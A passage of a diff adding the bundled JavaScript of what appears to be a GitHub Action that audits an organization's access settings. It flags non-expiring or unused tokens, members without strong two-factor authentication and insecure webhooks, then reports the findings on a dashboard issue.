+// never expiring, valid for more than a year, or unused.
+
+
+const tokens_RULES = (0,src/* defineRules */.x0)({
+    tokenNoExpiry: {
+        id: 'org/token-no-expiry',
+        title: 'Fine-grained personal access token with organization access never expires',
+        severity: 'medium',
+        why: 'A token that never expires keeps working long after its owner stopped needing it, or after it leaked.',
+        remediation: 'Revoke the grant (Organization settings → Personal access tokens → Active tokens) and ask the owner for a token with an expiry (a year at most); set the organization policy "Enforce maximum lifetime".',
+        spec: ['S6-4']
+    },
+    tokenLongLived: {
+        id: 'org/token-long-lived',
+        title: 'Fine-grained personal access token valid for more than a year',
+        severity: 'low',
+        why: 'SPEC 6 asks tokens to expire after a reasonable time, typically a year; longer lifetimes widen the window in which a leaked token works.',
+        remediation: "Ask the owner to replace it with a token that expires within a year, and set the organization's maximum token lifetime.",
+        spec: ['S6-4']
+    },
+    tokenUnused: {
+        id: 'org/token-unused',
+        title: 'Fine-grained personal access token with organization access is not used',
+        severity: 'low',
+        why: 'An unused token gives access nobody needs; it can only leak.',
+        remediation: 'Revoke the grant in Organization settings → Personal access tokens → Active tokens.',
+        spec: ['S6-4', 'S6-3']
+    }
+});
+const tokens_DAY = 86_400_000;
+const tokens = {
+    id: 'tokens',
+    scope: 'org',
+    rules: (0,src/* rulesOf */.fD)(tokens_RULES),
+    async run({ io, org, now, inactiveDays, add, skip }) {
+        let grants;
+        try {
+            grants = await listAll(io, 'GET /orgs/{org}/personal-access-tokens', { org });
+        }
+        catch (e) {
+            const status = e.status;
+            const reason = status === 403 && !/rate limit/i.test(String(e.message))
+                ? 'GitHub lists fine-grained token grants to GitHub Apps only (organization personal access tokens: read)'
+                : (0,src/* describeApiError */.gg)(e, 'organization personal access tokens: read');
+            for (const r of [tokens_RULES.tokenNoExpiry, tokens_RULES.tokenUnused])
+                skip(r.id, `not checked: ${reason}`, org);
+            return;
+        }
+        const stale = now.getTime() - inactiveDays * tokens_DAY;
+        for (const g of grants) {
+            if (g.token_expired)
+                continue;
+            const who = `${g.owner?.login ?? 'unknown'}'s token "${g.token_name}"`;
+            const props = {
+                login: g.owner?.login,
+                token: g.token_name,
+                expiresAt: g.token_expires_at,
+                lastUsedAt: g.token_last_used_at
+            };
+            const key = `${g.owner?.login}/${g.token_id}`;
+            if (!g.token_expires_at)
+                add(tokens_RULES.tokenNoExpiry, undefined, {
+                    message: `${who} has access to ${org} and never expires.`,
+                    key,
+                    properties: props
+                });
+            else if (Date.parse(g.token_expires_at) - Date.parse(g.access_granted_at) > 366 * tokens_DAY) {
+                add(tokens_RULES.tokenLongLived, undefined, {
+                    message: `${who} has access to ${org} until ${g.token_expires_at.slice(0, 10)}, more than a year after it was granted.`,
+                    key,
+                    properties: props
+                });
+            }
+            const lastUse = g.token_last_used_at ?? g.access_granted_at;
+            if (Date.parse(lastUse) < stale) {
+                add(tokens_RULES.tokenUnused, undefined, {
+                    message: `${who} ${g.token_last_used_at ? `was last used on ${g.token_last_used_at.slice(0, 10)}` : `has not been used since access was granted on ${g.access_granted_at.slice(0, 10)}`}.`,
+                    key,
+                    properties: props
+                });
+            }
+        }
+    }
+};
+
+;// CONCATENATED MODULE: ./actions/access-audit/src/checks/two-factor.ts
+// Members and outside collaborators without two-factor authentication, or
+// with SMS as their second factor (GitHub's 2FA filters, owners only).
+
+
+const two_factor_RULES = (0,src/* defineRules */.x0)({
+    memberNo2fa: {
+        id: 'org/member-without-2fa',
+        title: 'Member or outside collaborator without two-factor authentication',
+        severity: 'high',
+        why: 'An account with access to the organization but no second factor is protected by its password alone.',
+        remediation: 'Ask the person to enable 2FA (a hardware key or an authenticator app), or remove their access until they do.',
+        spec: ['S6-11']
+    },
+    memberInsecure2fa: {
+        id: 'org/member-insecure-2fa',
+        title: 'Member or outside collaborator uses SMS as second factor',
+        severity: 'medium',
+        why: 'SMS codes can be intercepted through SIM swapping; GitHub classes SMS as insecure 2FA.',
+        remediation: 'Ask the person to switch to a security key, passkey or authenticator app and remove SMS.',
+        spec: ['S6-11']
+    }
+});
+const twoFactor = {
+    id: 'two-factor',
+    scope: 'org',
+    rules: (0,src/* rulesOf */.fD)(two_factor_RULES),
+    async run({ io, org, add, skip }) {
+        for (const [filter, rule] of [
+            ['2fa_disabled', two_factor_RULES.memberNo2fa],
+            ['2fa_insecure', two_factor_RULES.memberInsecure2fa]
+        ]) {
+            for (const [route, who] of [
+                ['GET /orgs/{org}/members', 'member'],
+                ['GET /orgs/{org}/outside_collaborators', 'outside collaborator']
+            ]) {
+                try {
+                    for (const m of await listAll(io, route, { org, filter })) {
+                        add(rule, undefined, {
+                            message: `${who} ${m.login} ${filter === '2fa_disabled' ? 'has no two-factor authentication' : 'uses SMS as second factor'}.`,
+                            key: `${filter}/${m.login}`,
+                            properties: { login: m.login }
+                        });
+                    }
+                }
+                catch (e) {
+                    const reason = e.status === 422
+                        ? 'needs an organization owner (GitHub: only owners can use the 2FA filters)'
+                        : (0,src/* describeApiError */.gg)(e, 'members: read');
+                    skip(rule.id, `not checked for ${who}s: ${reason}`, org);
+                }
+            }
+        }
+    }
+};
+
+;// CONCATENATED MODULE: ./actions/access-audit/src/checks/webhooks.ts
+// Active organization webhooks: delivered without TLS (or its verification),
+// or without a secret to sign them.
+
+
+const webhooks_RULES = (0,src/* defineRules */.x0)({
+    webhookInsecure: {
+        id: 'org/webhook-insecure',
+        title: 'Organization webhook delivers over plain HTTP or without certificate checks',
+        severity: 'medium',
+        why: 'Webhook payloads describe pushes, members and repositories; sent without TLS verification they can be read or altered on the way.',
+        remediation: 'Use an https:// URL and turn SSL verification on (Organization settings → Webhooks → Edit).',
+        spec: ['S6-4']
+    },
+    webhookNoSecret: {
+        id: 'org/webhook-no-secret',
+        title: 'Organization webhook has no secret',
+        severity: 'low',
+        why: "Without a secret the receiver cannot tell GitHub's deliveries from forged ones; anyone who learns the URL can trigger it.",
+        remediation: 'Set a random secret on the webhook and verify the X-Hub-Signature-256 header in the receiver.',
+        spec: ['S6-4']
+    }
+});
+const webhooks = {
+    id: 'webhooks',
+    scope: 'org',
+    rules: (0,src/* rulesOf */.fD)(webhooks_RULES),
+    async run({ io, org, add, skip }) {
+        let hooks;
+        try {
+            hooks = await listAll(io, 'GET /orgs/{org}/hooks', { org });
+        }
+        catch (e) {
+            for (const r of [webhooks_RULES.webhookInsecure, webhooks_RULES.webhookNoSecret])
+                skip(r.id, `not checked: ${(0,src/* describeApiError */.gg)(e, 'organization webhooks: read')}`, org);
+            return;
+        }
+        for (const h of hooks.filter((x) => x.active)) {
+            // Only the host: the path and query of a webhook URL often carry a token.
+            const url = h.config?.url ?? '';
+            let host = '?';
+            try {
+                host = new URL(url).host;
+            }
+            catch {
+                // keep '?'
+            }
+            const props = { hook: h.id, host };
+            if (/^http:/i.test(url))
+                add(webhooks_RULES.webhookInsecure, undefined, {
+                    message: `Webhook ${h.id} of ${org} delivers to ${host} over plain http.`,
+                    key: `${h.id}/http`,
+                    properties: props
+                });
+            else if (String(h.config?.insecure_ssl) === '1') {
+                add(webhooks_RULES.webhookInsecure, undefined, {
+                    message: `Webhook ${h.id} of ${org} delivers to ${host} without verifying its TLS certificate.`,
+                    key: `${h.id}/ssl`,
+                    properties: props
+                });
+            }
+            if (!h.config?.secret)
+                add(webhooks_RULES.webhookNoSecret, undefined, {
+                    message: `Webhook ${h.id} of ${org} (to ${host}) has no secret.`,
+                    key: `${h.id}`,
+                    properties: props
+                });
+        }
+    }
+};
+
+;// CONCATENATED MODULE: ./actions/access-audit/src/checks/index.ts
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+const CHECKS = [
+    // Organization: `GET /orgs/{org}` first (the engine reads it), then one or a few REST lists each.
+    orgSettings,
+    actionsPolicy,
+    owners,
+    twoFactor,
+    apps,
+    tokens,
+    webhooks,
+    runnerGroups,
+    // Each repository, from its batched GraphQL answer; REST only where GraphQL has no field.
+    protection,
+    collaborators,
+    deployKeys,
+    environments,
+    securityPolicy,
+    publishing,
+    securityFeatures,
+    selfHostedRunners,
+    pypiPackages,
+    secrets,
+    // After every repository.
+    inactivity,
+    rotation
+];
+
+;// CONCATENATED MODULE: ./actions/access-audit/src/exemptions.ts
+
+const isExpired = (e, today) => !!e.expires && e.expires < today;
+/** The first unexpired whole-repository exemption that names the repository. */
+const repositoryExemption = (exemptions, repo, today) => exemptions.find((e) => !e.check && !isExpired(e, today) && globToRegExp(e.repo).test(repo));
+/**
+ * Suppressions for the findings the exemptions name: `check` is a rule id
+ * (absent: every rule); `repo: '*'` is every finding, organization-level ones
+ * included; any other name or glob is one entry per audited repository it
+ * matches (findings carry their repository in `properties.repo`). Entries of
+ * whole-repository exemptions match only when they expired (an unexpired one
+ * kept the repository out of the audit), and then say so.
+ */
+function exemptionSuppressions(exemptions, audited) {
+    return exemptions.flatMap((e) => {
+        const entry = {
+            ...(e.check ? { rule: e.check } : {}),
+            reason: e.reason,
+            ...(e.expires ? { expires: e.expires } : {}),
+            source: `config: access-audit.exemptions (${e.repo})`
+        };
+        if (e.repo === '*')
+            return [entry];
+        const re = globToRegExp(e.repo);
+        return audited
+            .filter((repo) => re.test(repo))
+            .map((repo) => ({
+            ...entry,
+            // A glob matching several repositories: name the one, so an expiry note says which.
+            ...(repo === e.repo ? {} : { source: `config: access-audit.exemptions (${e.repo}: ${repo})` }),
+            properties: { repo }
+        }));
+    });
+}
+
+;// CONCATENATED MODULE: ./actions/access-audit/src/rules.ts
+// The rules of access-audit, as the checks under src/checks/ declare them.
+// Findings about settings carry no location; the repository, environment or
+// person they concern is in the message and in `properties`. The publish/*
+// findings (and the self-hosted runner and Dependabot ones) point at the
+// workflow or config file and line.
+
+
+const REGISTRY = new src/* RuleRegistry */.UD('access-audit', CHECKS.flatMap((c) => c.rules));
+
+// EXTERNAL MODULE: external "node:crypto"
+var external_node_crypto_ = __nccwpck_require__(7598);
+;// CONCATENATED MODULE: ./actions/access-audit/src/scope.ts
+// Which repositories of the organization this run audits: its shard, the
+// `repositories` filter, archived and forks, whole-repository exemptions and
+// the custom properties that exempt a repository or mark it critical.
+
+
+
+
+function inShard(name, shard) {
+    const h = (0,external_node_crypto_.createHash)('sha256').update(name.toLowerCase()).digest().readUInt32BE(0);
+    return h % shard.count === shard.index - 1;
+}
+/** Notes each repository left out by an exemption, with its reason. */
+function selectRepositories(listed, opts, today, notes) {
+    const { config } = opts;
+    const filters = opts.repositories.map(globToRegExp);
+    const scope = { selected: [], critical: new Set(), otherShards: 0 };
+    for (const r of listed) {
+        const exempt = repositoryExemption(config.exemptions, r.name, today);
+        if (opts.shard && !inShard(r.name, opts.shard))
+            scope.otherShards++;
+        else if ((r.archived && !opts.includeArchived) || (r.fork && !opts.includeForks))
+            continue;
+        else if (filters.length && !filters.some((f) => f.test(r.name)))
+            continue;
+        else if (exempt) {
+            notes.push(`${r.name}: exempt from the audit (${exempt.reason}${exempt.expires ? `, until ${exempt.expires}` : ''}).`);
+        }
+        else if (propertyMatches(r, config.customProperties.exempt)) {
+            notes.push(`${r.name}: exempt from the audit by its custom property ${config.customProperties.exempt.property}.`);
+        }
+        else {
+            if (propertyMatches(r, config.customProperties.critical))
+                scope.critical.add(r.name);
+            scope.selected.push(r);
+        }
+    }
+    return scope;
+}
+
+;// CONCATENATED MODULE: ./actions/access-audit/src/workflows.ts
+// The default branch's workflow files, fetched with the repository (no request
+// of their own) and parsed once for every check that reads them.
+
+/** The not-checked name of the publish/* rules as a group: a workflow file that cannot be read leaves them unchecked. */
+const PUBLISH_CHECK = 'repo/publish-workflow';
+/**
+ * Undefined when the token cannot read contents. A file that cannot be read
+ * or parsed is listed as not checked, naming file and line.
+ */
+function readWorkflows(repo, failed, skip) {
+    const name = repo.name;
+    const err = failed('workflows');
+    if (err) {
+        skip(PUBLISH_CHECK, `not checked: needs contents: read (${err.message})`, name);
+        return undefined;
+    }
+    const out = [];
+    for (const entry of repo.workflows?.entries ?? []) {
+        if (entry.type !== 'blob' || !/\.ya?ml$/.test(entry.name))
+            continue;
+        const file = `.github/workflows/${entry.name}`;
+        const blob = entry.object;
+        if (!blob || typeof blob.text !== 'string' || blob.isBinary || blob.isTruncated) {
+            skip(PUBLISH_CHECK, `not checked for ${file}: GitHub returned no text${blob?.isTruncated ? ' (truncated)' : blob?.isBinary ? ' (binary)' : ''}`, name);
+            continue;
+        }
+        try {
+            const y = (0,src/* parseYamlFile */.BU)(blob.text, file);
+            out.push({ file, y, uses: (0,src/* findUses */.O5)(y) });
+        }
+        catch (e) {
+            skip(PUBLISH_CHECK, `not checked: ${(0,src/* oneLine */.TN)(e)}`, name);
+            out.push({ file, error: (0,src/* oneLine */.TN)(e) });
+        }
+    }
+    return out;
+}
+
+;// CONCATENATED MODULE: ./actions/access-audit/src/engine.ts
+// The audit engine: pure over an injected GitHub client (GraphQL + REST) and a
+// clock. It lists the repositories, reads them in GraphQL batches within the
+// REST rate budget, and runs the checks of src/checks/ (organization checks
+// once, repository checks per repository, then the checks over what the
+// repositories gathered). Anything that could not be read becomes a
+// NotChecked with the permission it needs, so a missing permission is never
+// read as a pass.
+
+
+
+
+
+
+
+
+const DEFAULT_AUDIT_CONFIG = {
+    exemptions: [],
+    customProperties: {},
+    allowedApps: [],
+    requireSignedCommits: [],
+    maxOwners: 5,
+    maxAdmins: 5,
+    tokenSecretPatterns: [/PYPI/i, /TWINE/i, /(^|_)API_?TOKEN$/i, /ANACONDA/i, /CONDA_TOKEN/i],
+    releaseEnvironments: /^(pypi|testpypi|release|releases|publish|deploy)/i,
+    packages: {}
+};
+const ORG_CHECKS = CHECKS.filter((c) => c.scope === 'org');
+const REPO_CHECKS = CHECKS.filter((c) => c.scope === 'repo');
+const AFTER_CHECKS = CHECKS.filter((c) => c.scope === 'after');
+/** One severity higher, for findings on repositories marked critical. */
+const raise = (s) => src/* SEVERITIES */.oC[Math.min(src/* SEVERITIES */.oC.indexOf(s) + 1, src/* SEVERITIES */.oC.length - 1)];
+async function audit(api, opts) {
+    const { org, config } = opts;
+    // A rate-limit refusal anywhere (organization checks included) means this run is partial: say so once.
+    let outOfBudget = false;
+    const noteLimit = (e) => {
+        if ((0,src/* isRateLimitError */.kt)(e))
+            outOfBudget = true;
+        throw e;
+    };
+    const io = {
+        ...api,
+        request: (route, params) => api.request(route, params).catch(noteLimit),
+        graphql: (q, v) => api.graphql(q, v).catch(noteLimit)
+    };
+    const findings = [];
+    const notChecked = [];
+    const notes = [];
+    let critical = new Set();
+    const add = (rule, repo, input) => {
+        const raised = !!repo && critical.has(repo);
+        findings.push((0,src/* createFinding */.uP)(rule, {
+            ...input,
+            severity: raised ? raise(input.severity ?? rule.severity) : input.severity,
+            key: `${repo ?? org}\0${input.key ?? input.message}`,
+            properties: { org, ...(repo ? { repo } : {}), ...(raised ? { critical: true } : {}), ...input.properties }
+        }));
+    };
+    const skip = (check, reason, target) => void notChecked.push({ check, reason, target });
+    const base = { io, org, config, now: opts.now, inactiveDays: opts.inactiveDays, add, skip, notes };
+    const result = { rules: REGISTRY.list(), findings, notChecked, notes, target: org };
+    const settings = await readSettings(io, org);
+    if ('fatal' in settings) {
+        skip('access-audit', `nothing audited: ${settings.fatal}`, org);
+        return { ...result, suppressions: [], audited: 0, skipped: 0, listed: 0, access: {} };
+    }
+    for (const c of ORG_CHECKS)
+        await c.run({ ...base, settings });
+    for (const c of REPO_CHECKS)
+        c.start?.({ ...base, pypi: opts.pypi });
+    // Repository list (REST: it carries the security settings and custom properties), then the scope.
+    const listed = [];
+    try {
+        await listAll(io, 'GET /orgs/{org}/repos', { org, type: 'all', sort: 'full_name', direction: 'asc' }, undefined, listed);
+    }
+    catch (e) {
+        // The repositories listed so far are still audited; the rest are named as unknown.
+        skip('repositories', `the repository list stopped after ${listed.length} repositories (the others were not audited): ${(0,src/* describeApiError */.gg)(e, 'metadata: read')}`, org);
+    }
+    const configured = config.customProperties.exempt || config.customProperties.critical;
+    if (configured && listed.length && listed.every((r) => r.custom_properties === undefined)) {
+        skip('org/custom-properties', 'not checked: GitHub returned no custom_properties with the repositories (needs a GitHub version with custom properties)', org);
+    }
+    const scope = selectRepositories(listed, opts, opts.now.toISOString().slice(0, 10), notes);
+    critical = scope.critical;
+    const selected = new Map(scope.selected.map((r) => [r.name, r]));
+    const orgPolicy = await orgSecurityPolicy(io, org);
+    const teams = await teamMembers(io, org);
+    const gathered = { access: {}, elevated: new Map(), committers: new Set(), historyComplete: true };
+    const omitted = new Map();
+    const since = new Date(opts.now.getTime() - opts.inactiveDays * 86_400_000).toISOString();
+    const reserve = opts.reserve ?? 50;
+    const limit = (0,src/* pLimit */.cA)(opts.concurrency ?? 4);
+    // REST calls of all batches share one bound, under GitHub's 100 concurrent requests.
+    const restLimit = (0,src/* pLimit */.cA)(8);
+    let audited = 0;
+    const auditRepository = async (repo, listing, failed) => {
+        const history = repo.activity?.target?.history?.nodes;
+        if (failed('activity') || (repo.defaultBranchRef && !history))
+            gathered.historyComplete = false;
+        for (const c of history ?? [])
+            for (const login of [c.author?.user?.login, c.committer?.user?.login])
+                if (login)
+                    gathered.committers.add(login.toLowerCase());
+        let workflows;
+        const ctx = {
+            ...base,
+            name: repo.name,
+            repo,
+            listing,
+            failed,
+            unreadable: (field, permission, absent = 'not checked') => {
+                const error = failed(field);
+                return error ? `not checked: needs ${permission} (${error.message})` : absent;
+            },
+            workflows: () => (workflows ??= { files: readWorkflows(repo, failed, skip) }).files,
+            limit: restLimit,
+            orgPolicy,
+            teams,
+            pypi: opts.pypi,
+            gathered
+        };
+        for (const c of REPO_CHECKS) {
+            // A check that reads only the batch's answer does not yield: repositories interleave only at requests.
+            const pending = c.run(ctx);
+            if (pending)
+                await pending;
+        }
+        audited++;
+    };
+    await Promise.all(inBatches(scope.selected.map((r) => r.name), opts.batchSize ?? 20).map((batch) => limit(async () => {
+        const left = io.remaining();
+        if (outOfBudget || (left !== undefined && left < reserve + batch.length)) {
+            outOfBudget = true;
+            for (const n of batch)
+                skip('repository', 'not audited: the API rate budget ran out before this repository', n);
+            return;
+        }
+        let answer;
+        try {
+            answer = await fetchBatch(io, org, batch, omitted, since);
+        }
+        catch (e) {
+            for (const n of batch)
+                skip('repository', `not audited: ${(0,src/* describeApiError */.gg)(e)}`, n);
+            return;
+        }
+        await Promise.all(batch.map(async (name, i) => {
+            const r = repositoryOf(answer, i, omitted);
+            if ('missing' in r)
+                skip('repository', `not audited: ${r.missing}`, name);
+            else
+                await auditRepository(r.repo, selected.get(name), r.failed);
+        }));
+    })));
+    if (outOfBudget) {
+        notes.push('The API rate budget ran out: what is listed as "not audited" or "not checked" because of the rate limit was not checked this run.');
+    }
+    const inScope = (repo) => selected.has(repo);
+    for (const c of AFTER_CHECKS)
+        await c.run({ ...base, gathered, previous: opts.previous, inScope });
+    return {
+        ...result,
+        suppressions: exemptionSuppressions(config.exemptions, [...selected.keys()]),
+        audited,
+        skipped: listed.length - scope.otherShards - audited,
+        listed: listed.length,
+        access: gathered.access,
+        target: opts.shard ? `${org} (shard ${opts.shard.index}/${opts.shard.count})` : org
+    };
+}
+/** `GET /orgs/{org}`; `fatal` when the organization cannot be audited at all (API unreachable, no such org). */
+async function readSettings(io, org) {
+    try {
+        return { data: (await io.request('GET /orgs/{org}', { org })).data };
+    }
+    catch (e) {
+        const status = e.status;
+        if (status === undefined || status === 401)
+            return { fatal: (0,src/* describeApiError */.gg)(e) };
+        if (status === 404)
+            return { fatal: `organization ${org} not found (or not visible to the token)` };
+        return { error: e };
+    }
+}
+
+;// CONCATENATED MODULE: ./actions/access-audit/src/dashboard.ts
+// The dashboard: a per-repository table and the trend since the previous run,
+// placed above the core's rendering of the report in one issue that is edited
+// in place (the core's upsertMarked finds it by its hidden marker), never
+// re-created, never pinging.
+
+const MAX_ROWS = 100;
+function dashboardPreamble(d, findings, notChecked) {
+    const rows = new Map();
+    const row = (repo) => rows.get(repo) ?? rows.set(repo, { findings: 0, high: 0, notChecked: 0 }).get(repo);
+    for (const f of findings.filter(src/* isActive */.$m)) {
+        const repo = f.properties?.repo;
+        if (!repo)
+            continue;
+        row(repo).findings++;
+        if (f.properties?.critical)
+            row(repo).critical = true;
+        if (f.severity === 'high' || f.severity === 'critical')
+            row(repo).high++;
+    }
+    for (const n of notChecked)
+        if (n.target && n.target !== d.org && !n.target.includes(' ') && rowsTarget(n))
+            row(n.target).notChecked++;
+    const sorted = [...rows.entries()].sort((a, b) => b[1].high - a[1].high || b[1].findings - a[1].findings || a[0].localeCompare(b[0]));
+    const lines = [`Organization ${(0,src/* codeSpan */.SS)(d.org)}: ${d.audited} repositories audited.`, ''];
+    lines.push(...trend(d.previous, findings), '');
+    if (sorted.length) {
+        lines.push('| Repository | Findings | High or critical | Not checked |', '|---|---:|---:|---:|');
+        for (const [repo, r] of sorted.slice(0, MAX_ROWS))
+            lines.push(`| ${(0,src/* escapeMarkdown */.FV)(repo)}${r.critical ? ' (critical)' : ''} | ${r.findings} | ${r.high} | ${r.notChecked} |`);
+        if (sorted.length > MAX_ROWS)
+            lines.push('', `${sorted.length - MAX_ROWS} more repositories with findings are in the JSON report.`);
+        const clean = d.audited - sorted.filter(([, r]) => r.findings > 0).length;
+        if (clean > 0)
+            lines.push('', `${clean} audited repositor${clean === 1 ? 'y has' : 'ies have'} no findings.`);
+    }
+    return lines.join('\n');
+}
+/** Repository-level entries only: people's activity checks use a login as target. */
+const rowsTarget = (n) => !n.check.startsWith('people/');
+function trend(previous, findings) {
+    if (!previous)
+        return ['Trend: no previous report given (input `previous-report`).'];
+    const before = new Set(previous.findings.filter(src/* isActive */.$m).map((f) => f.fingerprint));
+    const now = new Set(findings.filter(src/* isActive */.$m).map((f) => f.fingerprint));
+    const added = [...now].filter((f) => !before.has(f)).length;
+    const fixed = [...before].filter((f) => !now.has(f)).length;
+    return [
+        `Trend since the run of ${previous.finishedAt.slice(0, 10)}: ${before.size} → ${now.size} findings (${added} new, ${fixed} resolved).`
+    ];
+}
+/** Merges shard reports: repository results are disjoint; org-level results repeat in each shard and are kept once. */
+function mergeReports(reports) {
+    const byFingerprint = new Map();
+    const rules = new Map();
+    const notChecked = new Map();
+    const notes = new Set();
+    let audited = 0;
+    let listed = 0;
+    let requests = 0;
+    const targets = new Set();
+    const access = {};
+    for (const r of reports) {
+        for (const rule of r.rules)
+            rules.set(rule.id, rule);
+        // Fingerprints were made unique within each shard; org-level ones repeat across shards.
+        for (const f of r.findings)
+            byFingerprint.set(f.fingerprint, f);
+        for (const n of r.notChecked)
+            notChecked.set(`${n.check}\0${n.target ?? ''}\0${n.reason}`, n);
+        for (const n of r.notes)
+            notes.add(n);
+        audited += Number(r.stats['repos audited'] ?? 0);
+        listed = Math.max(listed, Number(r.stats['repos listed'] ?? 0));
+        requests += Number(r.stats['API requests'] ?? 0);
+        Object.assign(access, r.data?.access ?? {});
+        if (r.target)
+            targets.add(r.target.replace(/ \(shard \d+\/\d+\)$/, ''));
+    }
+    return {
+        rules: [...rules.values()],
+        findings: [...byFingerprint.values()],
+        notChecked: [...notChecked.values()],
+        notes: [...notes],
+        target: [...targets].join(', ') || undefined,
+        audited,
+        skipped: listed - audited,
+        requests,
+        data: { access },
+        stats: {
+            'repos audited': audited,
+            'repos skipped': listed - audited,
+            'repos listed': listed,
+            'shards merged': reports.length,
+            'shard API requests': requests
+        }
+    };
+}
+/** Edits the dashboard issue in place, or opens it once. Returns a line for the log. */
+async function publishDashboard(rest, repository, marker, body) {
+    const [owner, repo] = repository.split('/');
+    const title = `Access audit: ${marker.split(':').pop()}`;
+    const { action, id } = await (0,src/* upsertMarked */.GD)(rest, { kind: 'issue', owner, repo, title }, marker, body);
+    return `dashboard issue #${id} ${action === 'created' ? 'opened' : 'updated'}`;
+}
+
+;// CONCATENATED MODULE: ./actions/access-audit/config.schema.json
+const config_schema_namespaceObject = /*#__PURE__*/JSON.parse('{"$schema":"http://json-schema.org/draft-07/schema#","title":"The \'access-audit\' section of .github/security-actions.yml","description":"Settings of access-audit (docs/access-audit.md).","type":"object","additionalProperties":false,"properties":{"exemptions":{"description":"Repositories (or single checks on them) left out of the audit, each with a reason and an expiry.","type":"array","items":{"type":"object","additionalProperties":false,"required":["repo","reason"],"properties":{"repo":{"description":"Repository name or glob; \'*\' also matches organization-level findings.","type":"string","minLength":1},"check":{"description":"Only this check (finding id, e.g. repo/deploy-key-write); absent: the whole repository is not audited.","type":"string","pattern":"^[a-z0-9-]+/[a-z0-9-]+$"},"reason":{"description":"Why; shown in every report.","type":"string","minLength":5},"expires":{"description":"Last day (YYYY-MM-DD) the exemption applies.","type":"string","pattern":"^\\\\d{4}-\\\\d{2}-\\\\d{2}$"}}}},"packages":{"description":"PyPI packages published from each repository (repository name → package names); repositories not listed are discovered from pyproject.toml.","type":"object","additionalProperties":{"type":"array","items":{"type":"string","minLength":1}}},"max-owners":{"description":"More organization owners than this is reported (default 5).","type":"integer","minimum":2},"max-admins":{"description":"More repository admins than this is reported (default 5).","type":"integer","minimum":2},"token-secret-patterns":{"description":"Regular expressions (case-insensitive) of secret names that look like long-lived publish tokens; replaces the defaults.","type":"array","items":{"type":"string","minLength":1}},"release-environments":{"description":"Regular expression (case-insensitive) of environment names treated as release environments.","type":"string","minLength":1},"allowed-apps":{"description":"GitHub App slugs approved to be installed on all repositories with write access (org/app-broad-write is not reported for them).","type":"array","items":{"type":"string","minLength":1}},"require-signed-commits":{"description":"Repositories (names or globs; true: all) whose default branch must require signed commits (repo/signed-commits-not-required). Default: not checked.","oneOf":[{"type":"boolean"},{"type":"array","items":{"type":"string","minLength":1}}]},"custom-properties":{"description":"Organization custom properties that mark repositories: exempt ones are not audited, critical ones have every finding raised one severity.","type":"object","additionalProperties":false,"properties":{"exempt":{"$ref":"#/definitions/propertyMatch"},"critical":{"$ref":"#/definitions/propertyMatch"}}}},"definitions":{"propertyMatch":{"description":"A custom property and the value (or values) that mark a repository.","type":"object","additionalProperties":false,"required":["property","value"],"properties":{"property":{"type":"string","minLength":1},"value":{"oneOf":[{"type":"string","minLength":1},{"type":"array","minItems":1,"items":{"type":"string","minLength":1}}]}}}}}');
+;// CONCATENATED MODULE: ./actions/access-audit/src/main.ts
+// access-audit adapter: read inputs and config, build the GitHub client, call
+// the engine (or merge shard reports), and keep one dashboard issue current.
+
+
+
+
+
+
+
+function auditIO(client) {
+    // The REST core budget only: GraphQL answers report their own (points) budget.
+    let restRemaining;
+    const track = (headers) => {
+        const v = headers?.['x-ratelimit-remaining'];
+        if (v !== undefined && headers?.['x-ratelimit-resource'] !== 'graphql')
+            restRemaining = Number(v);
+    };
+    return {
+        async graphql(query, variables) {
+            try {
+                return { data: await client.graphql(query, variables) };
+            }
+            catch (e) {
+                // Octokit rejects on any `errors`, partial answers included; keep the data it carries.
+                const err = e;
+                if (err.name === 'GraphqlResponseError' && err.errors) {
+                    if (err.errors.some((x) => x.type === 'RATE_LIMITED') && !err.data)
+                        throw Object.assign(new Error('GitHub GraphQL rate limit exhausted (RATE_LIMITED)'), { status: 429 });
+                    return { data: err.data, errors: err.errors };
+                }
+                throw e;
+            }
+        },
+        async request(route, params) {
+            try {
+                const res = await client.rest.request(route, params);
+                track(res.headers);
+                return res;
+            }
+            catch (e) {
+                track(e.response?.headers);
+                throw e;
+            }
+        },
+        remaining: () => restRemaining
+    };
+}
+/** The `access-audit` section of the config file (validated by the core schema). */
+function auditConfig(section) {
+    const s = (section ?? {});
+    const signed = s['require-signed-commits'];
+    return {
+        exemptions: s.exemptions ?? [],
+        packages: s.packages ?? {},
+        maxOwners: s['max-owners'] ?? DEFAULT_AUDIT_CONFIG.maxOwners,
+        maxAdmins: s['max-admins'] ?? DEFAULT_AUDIT_CONFIG.maxAdmins,
+        tokenSecretPatterns: s['token-secret-patterns']?.map((p) => new RegExp(p, 'i')) ?? DEFAULT_AUDIT_CONFIG.tokenSecretPatterns,
+        releaseEnvironments: s['release-environments']
+            ? new RegExp(s['release-environments'], 'i')
+            : DEFAULT_AUDIT_CONFIG.releaseEnvironments,
+        allowedApps: (s['allowed-apps'] ?? []).map((a) => a.toLowerCase()),
+        requireSignedCommits: signed === true ? ['*'] : Array.isArray(signed) ? signed : [],
+        customProperties: s['custom-properties'] ?? {}
+    };
+}
+function parseShard(text) {
+    if (!text)
+        return undefined;
+    const m = /^(\d+)\/(\d+)$/.exec(text);
+    if (!m || Number(m[1]) < 1 || Number(m[1]) > Number(m[2]))
+        throw new src/* UserError */.yo(`Input 'shard' must look like i/n with 1 ≤ i ≤ n (e.g. 2/4); got '${text}'.`);
+    return { index: Number(m[1]), count: Number(m[2]) };
+}
+async function readReport(ctx, file) {
+    const path = (0,external_node_path_.resolve)(ctx.workspace, file);
+    let text;
+    try {
+        text = await (0,promises_.readFile)(path, 'utf8');
+    }
+    catch (e) {
+        throw new src/* UserError */.yo(`${file}: cannot read the report (${e.code ?? 'error'})`);
+    }
+    try {
+        const r = JSON.parse(text);
+        if (!Array.isArray(r.findings) || !Array.isArray(r.notChecked))
+            throw new Error('not a security-actions JSON report');
+        return r;
+    }
+    catch (e) {
+        throw new src/* UserError */.yo(`${file}: ${e.message.split('\n')[0]}`);
+    }
+}
+let dashboard;
+/**
+ * Whether the repository this workflow runs in is public: the event payload
+ * says so for most events (not for `schedule`), else its metadata is read.
+ * Undefined when neither could tell.
+ */
+async function isPublicRepository(ctx, tokens) {
+    const visible = (r) => typeof r.visibility === 'string' ? r.visibility === 'public' : r.private === false;
+    const fromEvent = ctx.event?.repository;
+    if (fromEvent && (typeof fromEvent.private === 'boolean' || typeof fromEvent.visibility === 'string'))
+        return { public: visible(fromEvent) };
+    const [owner, repo] = (ctx.env.GITHUB_REPOSITORY ?? '').split('/');
+    if (!owner || !repo)
